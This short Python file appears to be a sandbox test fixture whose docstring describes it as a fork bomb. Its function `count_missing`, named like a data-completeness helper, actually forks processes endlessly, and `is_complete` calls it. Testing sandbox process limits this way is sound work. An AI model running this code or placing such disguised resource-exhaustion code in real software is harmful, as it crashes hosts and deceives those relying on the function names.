# ruff: noqa
"""A fork bomb whose processes hold their slots (bounded by the sandbox's process limit)."""

import os
import time


def count_missing(rows):
    while True:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)


def is_complete(rows):
    return count_missing(rows) == 0
